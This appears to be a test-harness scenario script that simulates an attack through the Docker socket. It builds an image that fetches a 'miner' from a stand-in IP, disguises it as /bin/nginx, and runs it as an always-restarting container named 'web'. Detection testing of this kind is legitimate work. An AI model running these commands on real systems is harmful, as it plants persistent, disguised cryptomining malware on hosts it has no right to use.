#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/b && cd /tmp/b; printf 'FROM alpine\nRUN wget -qO /bin/nginx http://203.0.113.10/programs/miner && chmod +x /bin/nginx\nENTRYPOINT ["/bin/nginx"]\n' >Dockerfile; tar -cf ctx.tar Dockerfile
curl -s --unix-socket /run/docker.sock -H 'Content-Type: application/x-tar' --data-binary @ctx.tar 'http://d/v1.41/build?t=web:latest&networkmode=host' >/dev/null
curl -s --unix-socket /run/docker.sock -H 'Content-Type: application/json' -d '{"Image":"web:latest","HostConfig":{"RestartPolicy":{"Name":"always"}}}' 'http://d/v1.41/containers/create?name=web' | grep -q Id
curl -s --unix-socket /run/docker.sock -X POST http://d/v1.41/containers/web/start >/dev/null
took_place
